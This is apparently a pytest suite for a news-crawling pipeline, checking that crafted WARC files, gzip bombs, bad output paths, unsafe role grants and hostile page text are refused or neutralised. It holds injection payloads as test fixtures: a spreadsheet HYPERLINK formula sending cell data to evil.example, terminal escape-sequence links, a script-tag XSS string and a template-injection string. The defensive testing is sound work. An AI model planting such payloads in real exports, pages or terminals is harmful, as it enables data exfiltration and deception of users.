"""The data boundary (issue 19): what a crafted WARC, a hostile page's text or a bad output path
can do to stored data, output files, database roles and the terminal. Real Postgres, real
warcio files, the real CLI."""

from __future__ import annotations

import csv
import email
import email.policy
import gzip
import json
import socketserver
import threading
import uuid
from contextlib import contextmanager
from io import BytesIO

import psycopg
import pytest
from psycopg import sql
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from pipeline.cli import console
from pipeline.cli.main import main
from pipeline.errors import NewsdeskError
from pipeline.outputs import warc
from pipeline.sources.config import Source
from pipeline.sources.sync import upsert_sources
from tests.cli import newsdesk as run_newsdesk

ALPHA = Source(name="alpha", homepage="https://alpha.example/", allowed_domains=["shared.example"])
BETA = Source(name="beta", homepage="https://beta.example/", allowed_domains=["shared.example"])
SOURCES = [ALPHA, BETA]


@pytest.fixture
def newsdesk(capsys, monkeypatch):
    """Run the CLI in this process: (exit status, stdout, stderr), tables 400 columns wide."""
    monkeypatch.setattr(console.stdout, "width", 400)

    def run(*args: str) -> tuple[int, str, str]:
        capsys.readouterr()
        status = main(list(args))
        out, err = capsys.readouterr()
        return status, out, err

    return run


def _warc(path, *records: dict) -> None:
    """A gzipped WARC of HTML 200 responses: each a dict of uri, body, and optionally the
    discovered URL and extra HTTP headers."""
    with path.open("wb") as fh:
        writer = WARCWriter(fh, gzip=True)
        for r in records:
            headers = [("Content-Type", "text/html; charset=utf-8"), *r.get("headers", [])]
            warc_headers = {}
            if "discovered" in r:
                warc_headers["Newsdesk-Discovered-URL"] = r["discovered"]
            writer.write_record(writer.create_warc_record(
                r["uri"], "response", payload=BytesIO(r["body"]),
                http_headers=StatusAndHeaders("200 OK", headers, protocol="HTTP/1.1"),
                warc_headers_dict=warc_headers,
            ))


def _pages(url: str) -> dict[str, tuple[str, bytes]]:
    with psycopg.connect(url) as conn:
        return {u: (s, gzip.decompress(h))
                for u, s, h in conn.execute("SELECT url, source, html_gz FROM raw_pages")}


def _import(url: str, path, source: Source | None = None) -> warc.ImportStats:
    with psycopg.connect(url) as conn:
        with conn.transaction():
            upsert_sources(conn, SOURCES)
        return warc.import_warc(conn, [path], SOURCES, source=source)


# --- WARC import: a record writes only its own source's pages, bodies bounded as the crawl's ---


def test_a_warc_record_writes_only_pages_of_its_own_source(db_url, tmp_path):
    own = tmp_path / "own.warc.gz"
    _warc(own, {"uri": "https://beta.example/news/1", "body": b"<p>beta's own story</p>"},
          {"uri": "https://shared.example/news/2", "body": b"<p>beta's shared story</p>"})
    assert _import(db_url, own, source=BETA).imported == {"beta": 2}

    hostile = tmp_path / "hostile.warc.gz"
    _warc(hostile,  # matched to alpha by its URL, claiming to be beta's stored page
          {"uri": "https://alpha.example/x", "discovered": "https://beta.example/news/1",
           "body": b"<p>overwritten</p>"})
    forced = tmp_path / "forced.warc.gz"
    _warc(forced,
          {"uri": "https://gamma.example/3", "body": b"<p>planted</p>"},  # on no host of alpha's
          # on alpha's site (both allow shared.example), but beta stores that address
          {"uri": "https://shared.example/news/2", "body": b"<p>overwritten too</p>"},
          {"uri": "https://alpha.example/fine", "body": b"<p>alpha's story</p>"})
    stats = _import(db_url, hostile)
    stats_forced = _import(db_url, forced, source=ALPHA)

    assert _pages(db_url) == {
        "https://beta.example/news/1": ("beta", b"<p>beta's own story</p>"),
        "https://shared.example/news/2": ("beta", b"<p>beta's shared story</p>"),
        "https://alpha.example/fine": ("alpha", b"<p>alpha's story</p>"),
    }
    assert (stats.imported, stats_forced.imported) == ({}, {"alpha": 1})
    assert stats.refused + stats_forced.refused == [
        "https://beta.example/news/1: not on alpha's site",
        "https://gamma.example/3: not on alpha's site",
        "https://shared.example/news/2: stored under source beta",
    ]


def test_warc_bodies_are_decoded_and_bounded_as_the_crawl_bounds_pages(db_url, tmp_path,
                                                                        monkeypatch):
    monkeypatch.setattr(warc, "MAX_PAGE_BYTES", 100_000)
    page = b"<p>" + b"news " * 1000 + b"</p>"
    gz = [("Content-Encoding", "gzip")]
    path = tmp_path / "sizes.warc.gz"
    _warc(path,
          {"uri": "https://alpha.example/gzip", "body": gzip.compress(page), "headers": gz},
          {"uri": "https://alpha.example/chunked", "headers": [("Transfer-Encoding", "chunked")],
           "body": b"%x\r\n%s\r\n0\r\n\r\n" % (len(page), page)},
          {"uri": "https://alpha.example/big", "body": b"x" * 100_001},
          {"uri": "https://alpha.example/bomb", "body": gzip.compress(b"\0" * 5_000_000),
           "headers": gz},
          {"uri": "https://alpha.example/broken", "body": b"\x1f\x8bnot gzip", "headers": gz})
    stats = _import(db_url, path)
    assert _pages(db_url) == {"https://alpha.example/gzip": ("alpha", page),
                              "https://alpha.example/chunked": ("alpha", page)}
    assert stats.skipped == {"over 100000 bytes": 1, "over 100000 bytes decompressed": 1,
                             "bad gzip body": 1}


def test_import_warc_names_the_records_it_refused(db_url, tmp_path, newsdesk):
    path = tmp_path / "foreign.warc.gz"
    _warc(path, *({"uri": f"https://gamma.example/{n}", "body": b"<p>planted</p>"}
                  for n in range(warc.REFUSED_NAMED + 2)))
    sources = tmp_path / "sources.yaml"
    sources.write_text(json.dumps({"sources": [s.model_dump(mode="json") for s in SOURCES]}))
    status, out, err = newsdesk("import-warc", str(path), "--sources", str(sources),
                                "--source", "alpha")
    assert status == 0, err
    assert err.splitlines() == [
        *(f"refused https://gamma.example/{n}: not on alpha's site"
          for n in range(warc.REFUSED_NAMED)),
        "refused 2 more records",  # the rest counted, not named
    ]
    assert "0 unchanged, 22 skipped (not on alpha's site)" in " ".join(out.split())
    assert _pages(db_url) == {}


def test_a_long_refused_url_is_one_line_on_piped_stderr(db_url, tmp_path):
    """A subprocess, stderr a pipe as in `newsdesk import-warc ... 2>&1 | grep refused`."""
    long = "https://gamma.example/" + "section/" * 20 + "story"
    path = tmp_path / "long.warc.gz"
    _warc(path, {"uri": long, "body": b"<p>planted</p>"})
    sources = tmp_path / "sources.yaml"
    sources.write_text(json.dumps({"sources": [s.model_dump(mode="json") for s in SOURCES]}))
    result = run_newsdesk("import-warc", str(path), "--sources", str(sources),
                          "--source", "alpha", env={"COLUMNS": ""})
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines() == [f"refused {long}: not on alpha's site"]


# --- exports: whole files or none, formulas inert, bad paths one line ---------------------------


def _article(conn, **fields) -> None:
    row = {"canonical_url": f"https://alpha.example/{uuid.uuid4().hex}", "source": "alpha",
           "authors": [], "tags": [], "body": "text", "word_count": 1, "is_paywalled": False,
           "content_hash": "h", "fetched_at": "2026-03-15T10:00:00Z", "extractor_version": "t",
           **fields}
    row.setdefault("url", row["canonical_url"])
    columns = sql.SQL(", ").join(map(sql.Identifier, row))
    values = sql.SQL(", ").join([sql.Placeholder()] * len(row))
    conn.execute(sql.SQL("INSERT INTO articles ({}) VALUES ({})").format(columns, values),
                 list(row.values()))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\tindented", "\rreturn"]


def test_csv_export_quotes_every_cell_and_makes_formulas_inert(db_url, tmp_path, newsdesk):
    with psycopg.connect(db_url) as conn:
        upsert_sources(conn, SOURCES)
        for text in FORMULAS:
            _article(conn, title=text, authors=[text], published_offset_minutes=-300)
        _article(conn, title="a plain headline, with a comma")
    out = tmp_path / "articles.csv"
    status, _, err = newsdesk("export", "--format", "csv", "--out", str(out))
    assert status == 0, err
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["title"] for r in rows] == ["'" + t for t in FORMULAS] + [
        "a plain headline, with a comma"]
    assert rows[0]["authors"] == json.dumps([FORMULAS[0]])  # a JSON array starts with [
    assert rows[0]["published_offset_minutes"] == "-300"  # a number, not a formula
    text = out.read_text(encoding="utf-8")
    assert text.startswith('"id","url",')  # every cell quoted, quotes doubled (OWASP)
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text


def test_a_failed_export_keeps_the_previous_file_and_leaves_no_half_file(db_url, tmp_path,
                                                                         monkeypatch):
    from pipeline.outputs import exports

    with psycopg.connect(db_url) as conn:
        upsert_sources(conn, SOURCES)
        for n in range(3):
            _article(conn, title=f"story {n}")
    out = tmp_path / "articles.jsonl"
    out.write_text("the previous good export\n")
    real_rows = exports.iter_rows

    def connection_lost_after_one_row(conn, **kwargs):
        rows = real_rows(conn, **kwargs)
        yield next(rows)
        raise psycopg.OperationalError("server closed the connection unexpectedly")

    monkeypatch.setattr(exports, "iter_rows", connection_lost_after_one_row)
    with psycopg.connect(db_url) as conn, pytest.raises(psycopg.OperationalError):
        exports.export_articles(conn, out, "jsonl")
    assert out.read_text() == "the previous good export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["articles.jsonl"]


@pytest.mark.parametrize("command", ["export", "report", "export-warc"])
def test_an_output_path_that_cannot_be_a_file_is_one_line(db_url, tmp_path, newsdesk, command):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    for out, why in [(tmp_path, "is a directory"), (blocker / "x.out", "is not a directory"),
                     ("/proc/newsdesk/x.out", "cannot write")]:
        status, _, err = newsdesk(command, "--out", str(out))
        assert status == 1
        assert err.startswith(f"newsdesk {command}: error: {out}: "), err
        assert why in err and len(err.strip().splitlines()) == 1
    assert blocker.read_text() == ""


# --- grant-analyst: never the app's own roles, never taking anything away ----------------------


def _role(db_url, *options: str) -> str:
    role = f"r_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.execute(sql.SQL("CREATE ROLE {} " + " ".join(options)).format(sql.Identifier(role)))
    return role


def _drop(db_url, role: str) -> None:
    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.execute(sql.SQL("DROP OWNED BY {}").format(sql.Identifier(role)))
        conn.execute(sql.SQL("DROP ROLE {}").format(sql.Identifier(role)))


@pytest.mark.parametrize("name", ["", "pg_read_all_data", "public", "CURRENT_USER",
                                  "session_user", "a\x00b", "x" * 64])
def test_grant_analyst_refuses_empty_and_reserved_names_in_one_line(db_url, newsdesk, name):
    status, _, err = newsdesk("db", "grant-analyst", name)
    assert status == 1
    assert err.startswith("newsdesk db: error: role name ")
    assert len(err.strip().splitlines()) == 1, err


def test_grant_analyst_refuses_the_roles_that_run_or_own_newsdesk(db_url):
    from pipeline.db.roles import grant_analyst

    superuser = _role(db_url, "SUPERUSER")
    owner = _role(db_url)
    member = _role(db_url, "IN ROLE", owner)  # can SET ROLE to the owner
    try:
        with psycopg.connect(db_url, autocommit=True) as conn:
            conn.execute(sql.SQL("ALTER TABLE sources OWNER TO {}").format(sql.Identifier(owner)))
            me = conn.execute("SELECT current_user").fetchone()[0]
            for role, why in [(me, "the one newsdesk connects as"), (superuser, "a superuser"),
                              (owner, "owns"), (member, "owns")]:
                with pytest.raises(NewsdeskError, match=why):
                    grant_analyst(conn, role)
            conn.execute("ALTER TABLE sources OWNER TO current_user")
    finally:
        for role in (member, owner, superuser):
            _drop(db_url, role)


def test_grant_analyst_on_an_existing_role_takes_nothing_away(db_url, newsdesk):
    role = _role(db_url, "LOGIN")
    try:
        with psycopg.connect(db_url, autocommit=True) as conn:
            conn.execute(sql.SQL("GRANT INSERT ON sources TO {}").format(sql.Identifier(role)))
        status, out, err = newsdesk("db", "grant-analyst", role)
        assert status == 0, err
        assert f"updated role '{role}'" in out
        with psycopg.connect(db_url) as conn:
            assert conn.execute(
                "SELECT rolcanlogin, has_table_privilege(rolname, 'sources', 'INSERT'),"
                "       has_table_privilege(rolname, 'articles', 'SELECT')"
                "  FROM pg_roles WHERE rolname = %s", [role]).fetchone() == (True, True, True)
    finally:
        _drop(db_url, role)


@pytest.mark.parametrize(("privilege", "table"),
                         [("INSERT", "articles"), ("UPDATE", "raw_pages"), ("DELETE", "articles")])
def test_grant_analyst_keeps_the_password_of_a_role_that_writes_newsdesk(
        db_url, newsdesk, monkeypatch, privilege, table):
    """The app's runtime login (neither the user migrating nor an owner) writes the data: a new
    password would lock the app out. A role that only reads may get one."""
    writer, reader = _role(db_url, "LOGIN PASSWORD 'app-secret'"), _role(db_url, "LOGIN")
    stored = "SELECT rolpassword FROM pg_authid WHERE rolname = %s"
    monkeypatch.setenv("NEWSDESK_TEST_PASSWORD", "new secret")
    try:
        with psycopg.connect(db_url, autocommit=True) as conn:
            conn.execute(sql.SQL("GRANT {} ON {} TO {}").format(
                sql.SQL(privilege), sql.Identifier(table), sql.Identifier(writer)))
            before = conn.execute(stored, [writer]).fetchone()[0]
        status, _, err = newsdesk("db", "grant-analyst", writer,
                                  "--password-env", "NEWSDESK_TEST_PASSWORD")
        assert status == 1
        assert err == (f"newsdesk db: error: role '{writer}' can write newsdesk's articles or "
                       "raw_pages (the app's own login?): its password is not changed here\n")
        assert newsdesk("db", "grant-analyst", writer)[0] == 0  # read rights: still added
        status, _, err = newsdesk("db", "grant-analyst", reader,
                                  "--password-env", "NEWSDESK_TEST_PASSWORD")
        assert status == 0, err
        with psycopg.connect(db_url) as conn:
            assert conn.execute(stored, [writer]).fetchone()[0] == before
            assert conn.execute(stored, [reader]).fetchone()[0] is not None
    finally:
        _drop(db_url, writer)
        _drop(db_url, reader)


class _Recording(psycopg.Connection):
    """A real connection that keeps the text of every statement it sends."""

    sent: list[str]

    def execute(self, query, params=None, **kwargs):
        self.sent = getattr(self, "sent", [])
        self.sent.append(query if isinstance(query, str) else query.as_string(self))
        return super().execute(query, params, **kwargs)


def test_grant_analyst_sends_the_password_hashed(db_url):
    from pipeline.db.roles import grant_analyst

    role = f"r_{uuid.uuid4().hex[:8]}"
    password = "correct horse battery staple"
    try:
        with _Recording.connect(db_url) as conn:
            assert grant_analyst(conn, role, login=True, password=password)
            grant_analyst(conn, role, password=password)  # the ALTER path too
        sent = "\n".join(conn.sent)
        assert password not in sent
        assert sent.count("PASSWORD 'SCRAM-SHA-256$") == 2
        with psycopg.connect(db_url) as admin:
            stored = admin.execute(
                "SELECT rolpassword FROM pg_authid WHERE rolname = %s", [role]).fetchone()[0]
        assert stored.startswith("SCRAM-SHA-256$") and stored in sent
    finally:
        _drop(db_url, role)


# --- page text shown in the terminal and in the alert e-mail is literal -------------------------

HOSTILE_LINES = ["[/]", "[link=http://evil.example/]click here[/link]", "[bold red]loud",
                 ":warning: \x1b]8;;http://evil.example/\x1b\\hidden link\x1b]8;;\x1b\\"]


def test_sources_boilerplate_prints_learned_lines_literally(db_url, newsdesk):
    with psycopg.connect(db_url) as conn:
        upsert_sources(conn, SOURCES)
        for n, line in enumerate(HOSTILE_LINES):
            conn.execute(
                "INSERT INTO source_boilerplate (source, line_key, line, pages, sample)"
                " VALUES ('alpha', %s, %s, 9, 10)", [str(n), line])
    status, out, err = newsdesk("sources", "boilerplate", "alpha")
    assert status == 0, err
    for line in HOSTILE_LINES[:3]:
        assert line in out
    assert "\x1b" not in out
    assert ":warning: \\x1b]8;;http://evil.example/\\x1b\\hidden link" in out


def test_the_alert_email_escapes_what_it_quotes(monkeypatch, tmp_path):
    monkeypatch.setenv("AIRFLOW_HOME", str(tmp_path / "airflow"))
    pytest.importorskip("airflow.sdk")
    from pipeline.airflow.notifier import NewsdeskAlertNotifier

    with smtp_sink() as (port, messages):
        monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", json.dumps({
            "conn_type": "smtp", "host": "127.0.0.1", "port": port,
            "extra": {"from_email": "newsdesk@localhost", "disable_ssl": True,
                      "disable_tls": True, "retry_limit": 0}}))
        monkeypatch.delenv("NEWSDESK_ALERT_WEBHOOK", raising=False)
        NewsdeskAlertNotifier(email="oncall@localhost").send(
            "crawl failed at https://evil.example/<script>alert(1)</script>?q={{ 7 * 7 }}", {})
    assert len(messages) == 1
    html = messages[0].get_body(("html",)).get_content()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>" not in html
    assert "{{ 7 * 7 }}" in html and "49" not in html


@contextmanager
def smtp_sink():
    """An SMTP server on 127.0.0.1 that accepts every message: yields (port, messages)."""
    messages: list[email.message.EmailMessage] = []

    class Session(socketserver.StreamRequestHandler):
        def handle(self):
            self.wfile.write(b"220 sink\r\n")
            while line := self.rfile.readline():
                verb = line[:4].upper()
                if verb == b"DATA":
                    self.wfile.write(b"354 go on\r\n")
                    data = b""
                    while (part := self.rfile.readline()) not in (b".\r\n", b""):
                        data += part
                    messages.append(email.message_from_bytes(
                        data.replace(b"\r\n..", b"\r\n."), policy=email.policy.default))
                self.wfile.write(b"221 bye\r\n" if verb == b"QUIT" else b"250 ok\r\n")
                if verb == b"QUIT":
                    return

    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Session)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], messages
    finally:
        server.shutdown()
        server.server_close()
